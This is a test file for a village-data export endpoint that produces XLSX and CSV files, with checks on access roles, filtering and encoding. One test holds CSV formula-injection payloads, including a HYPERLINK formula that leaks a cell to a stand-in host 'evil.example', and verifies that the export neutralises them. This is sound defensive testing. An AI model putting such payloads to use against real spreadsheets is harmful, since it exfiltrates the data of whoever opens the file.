/**
 * GET /api/desa-wisata/export: every village of a region for an office, as XLSX (read back
 * with exceljs) or CSV (UTF-8 with a byte-order mark); managers' contact data, so dinas
 * and admin only.
 */
import { gunzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { handler as exportVillages } from '../../functions/villages/export';
import { handler as createScore } from '../../functions/scores/create';
import { handler as createStatus } from '../../functions/statuses/create';
import { MSG } from '../../lib/contract/messages';
import { sameScores } from '../robustness/support/fixture';
import { invoke } from '../support/api';
import { parseCsv } from '../support/csv';
import { makeUser } from '../support/users';
import { makeVillage } from '../support/villages';

const get = (query: Record<string, string>, token?: string, headers?: Record<string, string>) =>
  invoke(exportVillages, { method: 'GET', resource: '/api/desa-wisata/export', query, token, headers });

describe('GET /api/desa-wisata/export', () => {
  it('XLSX: a header row, one row per village of the region, numbers as numbers, the time as a date', async () => {
    const owner = await makeUser('pengelola');
    const dinas = await makeUser('dinas');
    const prov = `Provinsi Ekspor ${Date.now()}`;
    const a = await makeVillage(owner, { provinsi: prov, kabupaten: 'Timur', nama_desa: 'Desa Ñusa "Indah", Timur' });
    await makeVillage(owner, { provinsi: prov, kabupaten: 'Barat' });
    await makeVillage(owner, { provinsi: `${prov} Lain`, kabupaten: 'Timur' });
    await invoke(createScore, {
      method: 'POST',
      resource: '/api/skor',
      body: { kd_desa: a.kd_desa, ...sameScores(80) },
      token: dinas.token,
    });
    await invoke(createStatus, {
      method: 'POST',
      resource: '/api/status-desa',
      body: { kd_desa: a.kd_desa, status: 'aktif', keterangan: '' },
      token: dinas.token,
    });

    const res = await get({ provinsi: prov }, dinas.token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['Content-Type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(String(res.headers['Content-Disposition'])).toMatch(/^attachment; filename="desa-wisata-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(res.rawBody, 'base64') as never);
    const sheet = workbook.getWorksheet('Desa wisata')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 5)).toEqual(['Kode desa', 'Nama desa', 'Nama populer', 'Provinsi', 'Kabupaten']);
    expect(sheet.rowCount).toBe(3); // header + the two villages of this province (not the other one)
    const rows = [2, 3].map((n) => Object.fromEntries(header.map((h, i) => [String(h), sheet.getRow(n).getCell(i + 1).value])));
    const scored = rows.find((r) => r['Kode desa'] === a.kd_desa)!;
    expect(scored).toMatchObject({
      'Nama desa': 'Desa Ñusa "Indah", Timur',
      Provinsi: prov,
      Kabupaten: 'Timur',
      'Email pengelola': owner.email,
      'Akun terverifikasi': 'ya',
      'Status permintaan': 'diproses',
      'Status operasional': 'aktif',
      'partisipasi masyarakat': 80,
      'Rata-rata': 80,
      Kategori: 'Maju',
    });
    expect(scored.Terdaftar).toBeInstanceOf(Date);
    const unscored = rows.find((r) => r['Kode desa'] !== a.kd_desa)!;
    expect(unscored.Kategori ?? null).toBeNull();

    // a kabupaten within its province
    const one = await get({ provinsi: prov, kabupaten: 'barat', format: 'xlsx' }, dinas.token);
    const wb2 = new ExcelJS.Workbook();
    await wb2.xlsx.load(Buffer.from(one.rawBody, 'base64') as never);
    expect(wb2.getWorksheet('Desa wisata')!.rowCount).toBe(2);
  });

  it('CSV: UTF-8 with a byte-order mark and a header row, quoted where needed, gzip for clients that take it', async () => {
    const owner = await makeUser('pengelola');
    const admin = await makeUser('admin');
    const prov = `Provinsi CSV ${Date.now()}`;
    await makeVillage(owner, { provinsi: prov, kabupaten: 'Kota', nama_desa: 'Desa Ñusa "Indah", Timur' });
    const res = await get({ provinsi: prov, format: 'csv' }, admin.token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['Content-Type']).toBe('text/csv; charset=utf-8');
    const text = res.rawBody;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]!.startsWith('Kode desa,Nama desa,Nama populer,Provinsi,Kabupaten')).toBe(true);
    expect(lines[1]).toContain('"Desa Ñusa ""Indah"", Timur"');
    expect(lines[1]).toContain(`,${prov},Kota,`);

    const gz = await get({ provinsi: prov, format: 'csv' }, admin.token, { 'Accept-Encoding': 'gzip' });
    if (gz.headers['Content-Encoding'] === 'gzip') expect(gunzipSync(Buffer.from(gz.rawBody, 'base64')).toString('utf8')).toBe(text);
  });

  it('CSV/formula injection: free text starting with = + - @ is prefixed with a quote in CSV and XLSX; numbers stay numbers', async () => {
    const owner = await makeUser('pengelola');
    const dinas = await makeUser('dinas');
    const prov = `Provinsi Rumus ${Date.now()}`;
    const evil = {
      nama_desa: '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
      nama_popular: '+Desa Rumus',
      alamat: '-2+3',
      pengelola: '@SUM(1+1)',
    };
    const { kd_desa } = await makeVillage(owner, { provinsi: prov, kabupaten: 'Kota', ...evil });
    await invoke(createScore, { method: 'POST', resource: '/api/skor', body: { kd_desa, ...sameScores(60) }, token: dinas.token });
    const expected = {
      'Nama desa': `'${evil.nama_desa}`,
      'Nama populer': `'${evil.nama_popular}`,
      Alamat: `'${evil.alamat}`,
      Pengelola: `'${evil.pengelola}`,
      'Nomor telepon': "'+62 812-2700-1234", // (tests/support/villages.ts)
      Provinsi: prov,
    };

    const csv = await get({ provinsi: prov, format: 'csv' }, dinas.token);
    const [header, row] = parseCsv(csv.rawBody.slice(1));
    const csvRow = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(csvRow).toMatchObject({ ...expected, 'partisipasi masyarakat': '60', 'Rata-rata': '60' });

    const xlsx = await get({ provinsi: prov }, dinas.token);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(xlsx.rawBody, 'base64') as never);
    const sheet = workbook.getWorksheet('Desa wisata')!;
    const names = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const xlsxRow = Object.fromEntries(names.map((h, i) => [h, sheet.getRow(2).getCell(i + 1).value]));
    expect(xlsxRow).toMatchObject({ ...expected, 'partisipasi masyarakat': 60, 'Rata-rata': 60 });
    for (let i = 1; i <= names.length; i++) expect(sheet.getRow(2).getCell(i).formula).toBeUndefined();
  });

  it('dinas and admin only; bad parameters are a 400 naming them', async () => {
    const owner = await makeUser('pengelola');
    const refused = await get({}, owner.token);
    expect(refused.statusCode).toBe(403);
    expect(refused.body).toEqual({ status: 'fail', message: MSG.exportOfficeOnly });
    expect((await get({})).statusCode).toBe(401);
    const admin = await makeUser('admin');
    for (const q of [{ format: 'pdf' }, { kabupaten: 'Sleman' }] as Record<string, string>[]) {
      const bad = await get(q, admin.token);
      expect(bad.statusCode).toBe(400);
      expect(bad.body).toEqual({ status: 'fail', message: MSG.exportQueryInvalid });
    }
  });
});
